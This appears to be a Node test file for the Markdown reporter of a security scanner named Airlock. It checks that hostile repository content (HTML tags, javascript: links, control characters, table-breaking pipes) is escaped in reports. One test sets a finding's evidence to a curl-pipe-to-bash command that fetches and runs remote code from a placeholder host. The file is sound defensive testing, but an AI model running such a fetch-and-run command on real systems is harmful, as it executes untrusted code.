import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { mdCode, renderMarkdown } from '../../src/reporters/markdown.ts';
import { hostileReport } from './hostile-report.ts';

describe('Markdown report', () => {
  it('escapes links, HTML and table breakers from the repository', () => {
    const md = renderMarkdown(hostileReport());
    // Inside code spans HTML is shown literally; outside them none may remain.
    const prose = md.replace(/(`+) [^\n]*? \1/g, '');
    assert.doesNotMatch(prose, /<img|<script|<iframe|<svg/i);
    assert.doesNotMatch(prose, /\]\(javascript:/);
    assert.doesNotMatch(md, /\u001b|\u202E/);
    assert.match(md, /^## ⛔ Airlock: BLOCK/m);
    for (const line of md.split('\n').filter(l => l.startsWith('| ') && !l.startsWith('| ---'))) {
      assert.equal(line.split(' | ').length, 4, `table row keeps 4 cells: ${line}`);
    }
  });

  it('fences inline code longer than any backtick run inside', () => {
    assert.equal(mdCode('a ``b`` c'), '``` a ``b`` c ```');
  });

  it('keeps a copied command right: `|` only escaped inside tables, never replaced by ¦', () => {
    const report = hostileReport();
    const f = report.findings[0];
    if (f) f.evidence = 'curl -s https://a.example.invalid/x | bash';
    const md = renderMarkdown(report);
    assert.doesNotMatch(md, /¦/);
    assert.match(md, /- evidence: ` curl -s https:\/\/a\.example\.invalid\/x \| bash `$/m);
    assert.match(md, /^\| open \| .* \| ` curl https:\/\/a\.example\.invalid \\\| bash ` \| /m);
  });

  it('shows multi-line evidence as a fenced block, with no literal \\n in code spans', () => {
    const report = hostileReport();
    const f = report.findings[0];
    if (f) f.evidence = 'first line\nsecond ``` line\nthird';
    const md = renderMarkdown(report);
    assert.doesNotMatch(md, /`[^`\n]*\\n[^`\n]*`/);
    assert.match(md, /^ {2}- evidence:\n\n {4}````text\n {4}first line\n {4}second ``` line\n {4}third\n {4}````$/m);
  });

  it('says the top reason and, for block, what to do if it already ran', () => {
    const md = renderMarkdown(hostileReport());
    const lines = md.split('\n');
    assert.match(
      lines[4] ?? '',
      /^\*\*Top reason:\*\* Runs &lt;script&gt;fetched&lt;\/script&gt; code \(` code\/remote-code-execution ` at ` src\//,
    );
    assert.match(
      lines[6] ?? '',
      /^\*\*Already opened, installed or ran it\?\*\* Run `airlock hunt` now and follow \[docs\/workstation\.md\]\(https:\/\/github\.com\/airlock-dev\/airlock\/blob\/main\/docs\/workstation\.md\)/,
    );
  });

  it('shows backticked parts of a message as code, not raw backticks', () => {
    const report = hostileReport();
    const f = report.findings[0];
    if (f) f.message = 'Runs `node x.js` on open.';
    assert.match(renderMarkdown(report), /: Runs ` node x\.js ` on open\\\.$/m);
  });
});
